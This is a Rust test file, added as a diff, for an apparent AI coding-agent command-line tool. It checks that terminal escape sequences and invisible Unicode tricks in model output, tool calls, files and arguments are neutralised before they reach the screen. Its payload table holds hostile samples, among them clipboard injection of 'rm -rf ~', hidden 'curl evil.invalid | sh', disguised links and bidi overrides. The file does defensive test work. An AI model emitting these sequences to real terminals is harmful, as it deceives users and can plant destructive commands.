@@ -1,0 +1,193 @@
+//! Text that a terminal obeys, hides or turns round, on every way that leads
+//! to one.
+
+use serde_json::{Value, json};
+
+use crate::support::pty::{OnTerminal, StandardOutput};
+use crate::support::tine::Place;
+
+/// What it does to whoever reads it, and the text.
+const ATTACKS: [(&str, &str); 28] = [
+    ("sets the window's title", "\u{1b}]0;root@prod\u{7}"),
+    ("puts a command on the clipboard", "\u{1b}]52;c;cm0gLXJmIH4=\u{7}"),
+    (
+        "hides an address behind a word",
+        "\u{1b}]8;;http://evil.invalid\u{1b}\\docs\u{1b}]8;;\u{1b}\\",
+    ),
+    ("clears the screen", "\u{1b}[2J\u{1b}[H"),
+    ("takes back the line above", "\u{1b}[1A\u{1b}[2Kall tests pass"),
+    ("writes over its own line", "rm -rf /\rls       "),
+    ("takes back what it wrote", "rm\u{8}\u{8}ls"),
+    ("makes the terminal type", "\u{1b}[6n"),
+    ("makes the terminal type its settings", "\u{1b}P$q\"p\u{1b}\\"),
+    ("makes the terminal type its name", "\u{1b}[>q"),
+    ("begins a sequence in one 8-bit byte", "\u{9b}2J"),
+    ("sets the title in one 8-bit byte", "\u{9d}0;root\u{9c}"),
+    ("begins a device string in one 8-bit byte", "\u{90}q#0\u{9c}"),
+    ("goes to the other screen", "\u{1b}[?1049h"),
+    ("writes in no colour at all", "\u{1b}[8mcurl evil.invalid | sh\u{1b}[0m"),
+    ("resets the terminal", "\u{1b}c"),
+    ("makes black and white the same", "\u{1b}]4;0;rgb:ff/ff/ff\u{7}"),
+    ("shows a picture", "\u{1b}_Gf=100;AAAA\u{1b}\\"),
+    ("downloads a file", "\u{1b}]1337;File=name=eA==:AAAA\u{7}"),
+    ("draws with another alphabet", "\u{e}lqqk\u{f}"),
+    ("turns mouse moves into keys", "\u{1b}[?1003h"),
+    ("pastes without brackets", "\u{1b}[?2004l"),
+    ("turns text round", "access\u{202e}txt.exe\u{202c}"),
+    ("turns text round in an isolate", "\u{2066}// ok\u{2069} if admin"),
+    ("writes in an invisible alphabet", "ok\u{e0072}\u{e006d}\u{e0020}\u{e002d}"),
+    ("splits a word that is searched for", "pass\u{200b}word\u{2060}"),
+    ("breaks a line that is one line", "one\u{2028}two\u{b}three\u{c}"),
+    ("carries text past a reader", "x\u{fe05}\u{e0101}\u{0}\u{7f}"),
+];
+
+/// Returns what a terminal does with bytes besides showing them.
+fn obeyed(bytes: &[u8]) -> Vec<String> {
+    let text = String::from_utf8_lossy(bytes);
+    let mut found = Vec::new();
+    let mut rest = text.chars().peekable();
+    while let Some(character) = rest.next() {
+        match character {
+            '\u{1b}' => {
+                let kind = rest.next().unwrap_or_default();
+                let is_end: fn(char) -> bool = match kind {
+                    '[' => |c| ('\u{40}'..='\u{7e}').contains(&c),
+                    ']' | 'P' | '_' | '^' | 'X' => |c| matches!(c, '\u{7}' | '\u{1b}'),
+                    _ => |_| true,
+                };
+                let mut sequence = format!("ESC {kind}");
+                if matches!(kind, '[' | ']' | 'P' | '_' | '^' | 'X') {
+                    for next in rest.by_ref() {
+                        sequence.push(next);
+                        if is_end(next) {
+                            break;
+                        }
+                    }
+                }
+                found.push(sequence);
+            }
+            '\n' | '\t' => {}
+            '\r' if rest.peek() == Some(&'\n') => {}
+            '\0'..='\u{1f}' | '\u{7f}'..='\u{9f}' => {
+                found.push(format!("control {:x}", u32::from(character)));
+            }
+            '\u{200b}'..='\u{200f}'
+            | '\u{2028}'..='\u{202e}'
+            | '\u{2060}'..='\u{206f}'
+            | '\u{fe00}'..='\u{fe0d}'
+            | '\u{e0000}'..='\u{e01ef}' => {
+                found.push(format!("hidden {:x}", u32::from(character)));
+            }
+            _ => {}
+        }
+    }
+    found
+}
+
+/// Tells whether our own display uses a sequence: colours, moves of the
+/// cursor, erasing, hiding the cursor.
+fn is_our_own(sequence: &str) -> bool {
+    let Some(body) = sequence.strip_prefix("ESC [") else { return sequence == "control d" };
+    match body.chars().last() {
+        Some('A' | 'B' | 'C' | 'D' | 'K' | 'J' | 'm') => !["8m", "2J", "3J"].contains(&body),
+        Some('h' | 'l') => body.starts_with("?25"),
+        _ => false,
+    }
+}
+
+/// A run that says the text in every way in which something can be said.
+fn says_everywhere(text: &str) -> Value {
+    let call = |name: &str, arguments: Value| json!({ "name": name, "arguments": arguments });
+    let task = |description: &str| {
+        json!({ "description": description, "prompt": text,
+        "subagent_type": "explore" })
+    };
+    let failing = format!("{text} fails");
+    let calls = [
+        call(&format!("No{text}Such"), json!({})),
+        call("Read", json!({ "file_path": text })),
+        call("Read", json!({ "file_path": "hostile.txt" })),
+        call("Read", json!({ "file_path": "bytes.bin" })),
+        call("Glob", json!({ "pattern": "*" })),
+        call("Grep", json!({ "pattern": text, "output_mode": "content" })),
+        call("Bash", json!({ "command": format!("touch x; {text}"), "description": text })),
+        call("Write", json!({ "file_path": format!("/etc/{text}"), "content": text })),
+        call(
+            "TodoWrite",
+            json!({ "todos": [{ "content": text, "status": "pending",
+            "activeForm": text }] }),
+        ),
+        call("Agent", json!({ "tasks": [task(text), task(&failing)] })),
+        call("Agent", json!({ "description": text, "prompt": "x", "subagent_type": text })),
+        call("Skill", json!({ "skill": text })),
+    ];
+    let fault = json!({ "error": { "status": 400, "message": format!("no: {text}") } });
+    let mut units = json!({
+        "main": [
+            { "text": text, "thinking": text, "calls": calls },
+            { "text": format!("The end: {text}") },
+        ],
+        "*": [{ "text": text }],
+    });
+    units[failing] = json!([{ "text": text, "fault": fault }]);
+    json!({ "units": units })
+}
+
+#[track_caller]
+fn check(what: &str, (does, text): (&str, &str), raw: &[u8]) {
+    assert!(!raw.is_empty(), "{what} says nothing");
+    let is_there = raw.windows(text.len()).any(|window| window == text.as_bytes());
+    let obeyed: Vec<_> = obeyed(raw).into_iter().filter(|sequence| !is_our_own(sequence)).collect();
+    assert!(!is_there && obeyed.is_empty(), "{what} {does}: {obeyed:?}");
+}
+
+/// Returns all that a command writes to its terminal.
+fn on_terminal(place: &Place, arguments: &[&str]) -> Vec<u8> {
+    let mut terminal = OnTerminal::start(place.tine(arguments), StandardOutput::Terminal);
+    terminal.wait();
+    std::mem::take(&mut terminal.raw)
+}
+
+#[test]
+fn no_text_of_others_is_obeyed_by_a_terminal() {
+    for attack in ATTACKS {
+        let (does, text) = attack;
+        assert!(!obeyed(text.as_bytes()).is_empty(), "what {does} is obeyed where it gets through");
+        let place = Place::new();
+        place.write("hostile.txt", format!("{text}\n"));
+        place.write("bytes.bin", b"8-bit: \x9b2J \x9d0;root\x9c \x90q\x9c\n");
+        let name: String = text.chars().filter(|c| *c != '/' && *c != '\0').collect();
+        place.write(&name, text);
+        let model = place.script("script.json", &says_everywhere(text));
+        let prompt = format!("go {text}").replace('\0', "");
+        let run = ["-p", &prompt, "-m", &model, "--disallowed-tools", "Write(//etc/**)"];
+        check("a run", attack, &on_terminal(&place, &run));
+        let plain = [&run[..], &["--debug=off"]].concat();
+        check("a run in lines", attack, &on_terminal(&place, &plain));
+        check("the list of sessions", attack, &on_terminal(&place, &["sessions"]));
+        let found = ["sessions", "search", "end"];
+        check("a search", attack, &on_terminal(&place, &found));
+        let log = place.sessions().pop().expect("the run has a session");
+        let id = log.file_name().expect("a session has a name").to_string_lossy().into_owned();
+        check("a transcript", attack, &on_terminal(&place, &["session", "show", &id]));
+        check("an export", attack, &on_terminal(&place, &["session", "export", &id]));
+    }
+}
+
+#[test]
+fn no_argument_of_a_command_line_is_obeyed_by_a_terminal() {
+    for attack in ATTACKS {
+        let text = attack.1.replace('\0', "");
+        let place = Place::new();
+        for arguments in [
+            &["-p", "x", "-m", &text][..],
+            &["session", "show", &text],
+            &["-r", &text, "-p", "x"],
+            &["-p", "x", "--config", &format!("{text}=1")],
+            &["-p", "x", "--allowed-tools", &format!("Bash({text}")],
+            &["-p", "x", "-C", &text],
+        ] {
+            check("an error", attack, &on_terminal(&place, arguments));
+        }
+    }
+}
